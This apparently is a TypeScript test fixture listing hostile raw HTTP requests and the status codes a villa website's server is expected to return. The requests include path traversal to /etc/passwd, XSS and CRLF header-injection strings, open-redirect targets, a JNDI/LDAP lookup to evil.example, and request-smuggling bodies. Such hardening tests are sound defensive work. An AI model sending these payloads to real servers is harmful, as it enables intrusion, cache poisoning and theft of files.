// Requests that no browser sends, by the statuses that they are to get.
import { METHODS } from "node:http";

/** A request that asks for an answer and no more; headers are whole lines. */
export function request(line: string, ...headers: readonly string[]): string {
  return [`${line} HTTP/1.1`, "Host: villa.example", "Connection: close", ...headers, "", ""].join(
    "\r\n",
  );
}

const words = (text: string) => text.trim().split(/[ \n]+/);
const prices = "/pricing-and-availability";

/** Addresses by their status: nonsense, not ours, led elsewhere, too long, and with any query. */
export const addresses: Readonly<Record<number, readonly string[]>> = {
  400: [
    ...words(`
      /% /%zz /hr/%E0%A4%A /%FF /%C0%AE%C0%AE/etc/passwd /%ED%A0%80 /about%00 /\xff /\\evil.example
      \\evil.example /hr\\..\\about /about#contents about ?x=1 * @evil.example file:///etc/passwd
      javascript:alert(1) http: http:///about http://me:secret@evil.example/ http://evil.example:port/
      http://[::1/ http://evil.example/%zz /about\x01 /about?x=\x7f /en/about?x=\xff /\xc5\xa1
    `),
    ...["http://evil example/", "/about\t", "/a b", "/a\0b"],
  ],
  404: [
    ...words(`
      //evil.example //evil.example/%2e%2e //user@evil.example/ /en/..//evil.example
      /en/%2f%2fevil.example /en/%5c%5cevil.example/ /http://evil.example http://x//evil.example
      /../../../../etc/passwd /%2e%2e%2fetc%2fpasswd /about/../about /%252e%252e/manifest.json
      /..%5cmanifest.json /..;/manifest.json /assets/%2e%2e%2f%2e%2e%2fserver.js /manifest.json
      /render-context.json /.built /.env /.data/feeds /about.html /About /abou%74 /about;x=1 //about
      /%EF%BC%8F%EF%BC%8Fevil.example /__proto__/_payload.json /<script>alert(1)</script>
      /..%0d%0aX-Evil:%201 /%0aLocation:%20//evil.example /'"><img>
    `),
    `/${"../".repeat(2700)}`,
    `/${"a".repeat(8191)}`,
  ],
  301: words(`
    /en//evil.example /en/en//evil.example /en/http://evil.example /en/.evil.example /about//
    /en/javascript:alert /en?//evil.example /hr/?x=%zz /en/?x=%0d%0aLocation:%20//evil.example
    http://evil.example/en/about/?x
  `),
  414: [
    `/${"a".repeat(8192)}`,
    `/${"a".repeat(200_000)}`,
    `http://evil.example/?${"a".repeat(9000)}`,
  ],
  200: [
    ...words(`
      /about?&&& /about?% /about?x=%00 /about?x=<script>alert(1)</script> /about?x[__proto__]=2
      /about?x=%0d%0aX-Evil:1 /about/_payload.json?//evil.example /api/availability?callback=evil
      http://evil.example http://evil.example?x=1 ${prices}?arrival=2027-02-30&departure=2027-13-01
      ${prices}?arrival=2027-07-10&departure=2027-07-03 ${prices}?arrival=9999-12-31&departure=0001-01-01
      ${prices}?arrival=%zz&departure=% ${prices}?arrival=<script>&arrival=2&departure[x]=3
      ${prices}?arrival=-271821-04-20&departure=%2B275760-09-13
    `),
    `${prices}?arrival=${"2".repeat(7000)}&departure=1`,
  ],
};

/** Fields that some server somewhere heeds: ours heeds none of them. */
export const unheeded = words(`
  __proto__:1 constructor:1 Origin:https://evil.example Referer:\xff Sec-Fetch-Site:__proto__
  Sec-Fetch-Dest:document Accept:*/*;q=NaN Authorization:Basic If-Modified-Since:yesterday
  If-Match:"x" Keep-Alive:timeout=999999 Content-Type:text/html;charset=\xff Content-Encoding:br
  User-Agent:jndi:ldap://evil.example/a X-HTTP-Method-Override:DELETE X-Forwarded-For:127.0.0.1
  X-Forwarded-Host:evil.example X-Forwarded-Proto:javascript X-Original-URL:/hr X-Rewrite-URL:/hr
  Via:evil.example Forwarded:for=127.0.0.1;host=evil.example;proto=https
`);

const many = (length: number) => Array.from({ length }, (_, index) => `X-${index}: a`);

/** What a GET of an address with these headers gets. */
const fields: readonly (readonly [status: number, target: string, ...headers: string[]])[] = [
  [200, "/about", ...unheeded],
  [301, "/en/about", "If-None-Match: *", ...unheeded],
  [404, "/nothing", "Range: bytes=0-0", 'If-None-Match: *, "x"', "Accept-Encoding: *;q=0"],
  [200, "/about", "Range: bytes=5-1,0-0", `If-None-Match: ${'"x",'.repeat(2000)}"y"`],
  [304, "/about", "If-None-Match:  * "],
  [200, "/", `Cookie: ${"a=b; ".repeat(4000)}i18n_redirected=//evil.example`],
  [431, "/", `Cookie: ${"a=b; ".repeat(12_000)}`],
  [431, "/about", `${"A".repeat(40_000)}: a`],
  [200, "/about", ...many(900)],
  [431, "/about", ...many(10_000)],
  ...["A: \0", "nonsense", "A : b", "A: b\r\n c", "A: b\nX-Evil: 1"].map(
    (line) => [400, "/about", line] as const,
  ),
  [417, "/about", "Expect: tea"],
  [200, "/about", "Connection: Upgrade", "Upgrade: websocket"],
];

const hosts = [
  ...["", "Host: villa.example\r\nHOST: villa.example\r\n", "Host : villa.example\r\n"],
  ...words(
    "evil.example/about me@evil.example a:http a:123456 a\\b vill\xe4 [::1 <script>alert(1)</script>",
  )
    .concat("", "a, b", "a".repeat(300), "villa\0.example")
    .map((host) => `Host: ${host}\r\n`),
];

const lastHost = "Host: villa.example\r\nConnection: close\r\n\r\n";
const smuggled = `GET /smuggled HTTP/1.1\r\n${lastHost}`;
const chunked = "Transfer-Encoding: chunked";
const ask = (line: string, ...headers: readonly string[]) =>
  [`${line} HTTP/1.1`, "Host: villa.example", ...headers, "", ""].join("\r\n");
const post = (...headers: readonly string[]) => ask("POST /about", ...headers);

/** Requests whose beginning or end is unclear, bodies where none belongs, and many at once. */
const framing: readonly (readonly [bytes: string, ...statuses: number[]])[] = [
  // Lengths that two readers would understand differently: nothing after them may be answered.
  [`${post("Content-Length: 5", chunked)}0\r\n\r\n${smuggled}`, 400],
  [post("Content-Length: 0", "Content-Length: 5") + smuggled, 400],
  [post("Content-Length: -1") + smuggled, 400],
  [`${post("Content-Length : 5")}12345`, 400],
  [post("Transfer-Encoding: xchunked") + smuggled, 405, 400],
  [post("Transfer-Encoding: chunked, identity") + smuggled, 400],
  [post(`A: b\n${chunked}`) + smuggled, 400],
  [`${ask("GET /about", chunked)}3;${"a".repeat(20_000)}\r\nx=1\r\n0\r\n\r\n`, 200, 413],
  [`${request("POST /about", chunked)}7fffffffffffffff\r\nx`, 405],
  ["GET /about HTTP/1.1\nHost: villa.example\nConnection: close\n\n", 400],
  [`\r\n\r\n${request("GET /about")}`, 200],
  ["GET /about\r\n\r\n", 400],
  ["GET /about HTTP/1.0\r\n\r\n", 400],
  // What a balancer asks before it knows any host.
  ...["/readyz", "/healthz"].flatMap((path) => [
    [`GET ${path} HTTP/1.0\r\n\r\n`, 200] as const,
    [`GET ${path} HTTP/1.1\r\nConnection: close\r\n\r\n`, 400] as const,
    [`GET ${path} HTTP/1.0\r\nHost: a\r\nHost: b\r\n\r\n`, 400] as const,
  ]),
  [`GET /about HTTP/1.0\r\nHost: villa.example\r\n\r\n`, 200],
  ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400],
  ["\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400],
  ["\x8f\x1c\xe3\x00\x99\xff\x10\x7f\r\n\r\n", 400],
  [ask("GET /about") + ask("GET /%zz") + ask("GET /gallery"), 200, 400],
  [ask("GET /nothing") + request("GET /en/about"), 404, 301],
  [request("GET /about") + ask("GET /smuggled"), 200],
  [post(`Content-Length: ${smuggled.length}`) + smuggled + request("GET /about"), 405, 200],
  [`${post(chunked)}3\r\nx=1\r\n0\r\n\r\n${request("GET /about")}`, 405, 200],
  [request("POST /", "Content-Length: 70000") + "x".repeat(70_000), 405],
  [`${request("POST /nothing", "Content-Length: 1000")}x=1`, 405],
  [`${request("GET /about", "Expect: 100-continue", "Content-Length: 1")}x`, 100, 200],
  ["CONNECT evil.example:443 HTTP/1.1\r\n\r\n", 405],
  ...["OPTIONS *", "BREW /about", "get /about", " /about"].map(
    (line) => [request(line), 400] as const,
  ),
  ...METHODS.filter((method) => !["GET", "HEAD", "CONNECT"].includes(method)).map(
    (method) => [request(`${method} /about`, "Content-Length: 0"), 405] as const,
  ),
];

/** Every request with all the statuses that come before the server hangs up. */
export const requests: readonly (readonly [bytes: string, ...statuses: number[]])[] = [
  ...Object.entries(addresses).flatMap(([status, targets]) =>
    targets.map((target) => [request(`GET ${target}`), Number(status)] as const),
  ),
  ...fields.map(
    ([status, target, ...headers]) => [request(`GET ${target}`, ...headers), status] as const,
  ),
  ...["EVIL.EXAMPLE:1", "[::1]:3000", "__proto__"].map(
    (host) =>
      [`GET /en/about HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, 301] as const,
  ),
  ...hosts.map((host) => [`GET / HTTP/1.1\r\n${host}Connection: close\r\n\r\n`, 400] as const),
  ...framing,
];
